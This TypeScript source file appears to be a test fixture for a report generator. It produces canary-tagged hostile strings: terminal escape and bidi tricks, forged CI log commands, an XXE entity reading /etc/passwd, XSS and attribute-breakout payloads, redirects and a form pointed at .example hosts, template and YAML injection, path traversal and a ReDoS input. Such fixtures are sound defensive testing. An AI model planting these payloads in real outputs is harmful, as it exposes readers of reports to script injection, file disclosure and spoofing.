/**
 * What a hostile system under test would send to whoever reads a report: texts that a terminal, a log service, an XML
 * parser, a browser or a template engine would act on. Each carries a canary, a word of its own, so that it can be told
 * in which outputs it has arrived, and that it has arrived there as text.
 */
export interface Untrusted {
  /** What it is after. */
  readonly name: string
  /** Letters and digits only, in no other text. */
  readonly canary: string
  readonly text: string
}

const makers: Readonly<Record<string, (canary: string) => string>> = {
  // --- terminals
  'clears the screen and forges a line': (c) => `\u001b[2J\u001b[1A\u001b[45m✔ ${c}\u001b[0m`,
  'sets the title and hides a link behind text': (c) =>
    `\u001b]0;${c}\u0007\u001b]8;;http://${c}.example/\u001b\\click\u001b]8;;\u001b\\`,
  'uses C1 control characters': (c) => `\u009b45m${c}\u009c\u0085`,
  'overprints a line': (c) => `fail\rpass ${c}\b\b\b\u007f`,
  'reorders what is read': (c) => `\u202e${c}\u2066 gnp.exe\u2069`,
  'hides characters': (c) => `\u200b${c}\u2060\ufeff\u00ad\u3164\u{e0041}\u180e`,
  'piles up marks': (c) => `${c}${'\u0301\u0336'.repeat(60)}`,
  'has lone surrogates': (c) => `\ud800 ${c} \udfff`,
  'has NUL and what is no character': (c) => `\u0000\u0008${c}\ufffe\uffff\u{1ffff}`,
  'separates lines in other ways': (c) => `\u2028${c}\u2029\u000b\u000c`,
  'formats as printf does': (c) => `%s%n%c%x ${c}`,

  // --- logs of CI services
  'is a command of GitHub': (c) => `::error file=app.js,line=1::${c}`,
  'is a command of GitHub on a line of its own': (c) => `x\n  ::add-mask::${c}\r\n::set-output name=a::b`,
  'is a command of GitHub and of Azure, old style': (c) =>
    `##[error]${c} ##vso[task.complete result=Succeeded;]`,
  'is a command of TeamCity': (c) => `##teamcity[testFailed name='${c}']`,
  'folds the log of GitLab': (c) => `\u001b[0Ksection_start:1:${c}\r\u001b[0K`,

  // --- XML
  'ends a CDATA section, three times': (c) => `]]> ${c} ]]> two ]]><failure/>`,
  'declares an entity': (c) => `<!DOCTYPE x [<!ENTITY ${c} SYSTEM "file:///etc/passwd">]>&${c};&#0;`,

  // --- HTML
  'is a script': (c) => `<script>window.${c}=1;alert('${c}')</script>`,
  'ends a script': (c) => `</script><script>alert('${c}')</script>`,
  'breaks out of an attribute in double quotes': (c) => `"><img src=x onerror=alert('${c}')>`,
  'breaks out of an attribute in single quotes': (c) =>
    `' onmouseover='alert("${c}")' autofocus onfocus='alert(1)`,
  'breaks out of an attribute in backquotes': (c) => `\` onclick=alert('${c}') x=\``,
  'runs without a script': (c) => `<svg/onload=alert('${c}')><details open ontoggle=alert('${c}')>`,
  'replaces where links lead': (c) =>
    `</style></title></head><base href="http://${c}.example/"><meta http-equiv="refresh" content="0;url=http://${c}.example/">`,
  'brings a style sheet': (c) => `</style><style>@import "http://${c}.example/x.css";*{display:none}</style>`,
  'posts a form': (c) => `</td></table><form action="http://${c}.example/"><input autofocus name=${c}>`,
  'is a link to a script': (c) => `javascript:alert('${c}')//.png`,
  'is a link to data': (c) => `data:text/html,<script>alert('${c}')</script>`,
  'is the address of an image': (c) => `http://${c}.example/beacon.png`,
  'is the address of an image without a scheme': (c) => `//${c}.example/beacon.gif`,
  'is the address of a film': (c) => `https://${c}.example/film.mp4`,
  'is the name of an image': (c) => `../../${c}.svg`,

  // --- Markdown, YAML, templates, data
  'is an image in Markdown': (c) => `![${c}](http://${c}.example/x.png) [a](javascript:alert(1)) @everyone`,
  'is a table in Markdown': (c) => `| ${c} |\n| --- |\n<!--`,
  'is YAML with a type': (c) => `!!js/function "${c}"\n- &a [*a]`,
  'is a template of Eta': (c) => `<%~ it.results %><%= process.exit(1) %>${c}`,
  'is a template of others': (c) =>
    `{{constructor.constructor("alert('${c}')")()}} \${process.exit(1)} $& $1 $\` $'`,
  'is the name of a prototype': (c) => `__proto__ constructor ${c}`,
  'climbs out of a folder': (c) => `../../../../${c}`,
  'is long': (c) => `${c}${'a'.repeat(9000)}.gif`,
  'keeps regular expressions busy': (c) => `${c} ${'http:'.repeat(1500)}`,
}

/** `aa`, `ab`, ... : no canary begins another one. */
function letters(index: number): string {
  return String.fromCharCode(97 + Math.floor(index / 26), 97 + (index % 26))
}

export const corpus: readonly Untrusted[] = Object.entries(makers).map(([name, make], index) => {
  const canary = `canary${letters(index)}`
  return { name, canary, text: make(canary) }
})

/** Everything at once, for places that show one text only. */
export const everything = corpus.map(({ text }) => text).join(' | ')
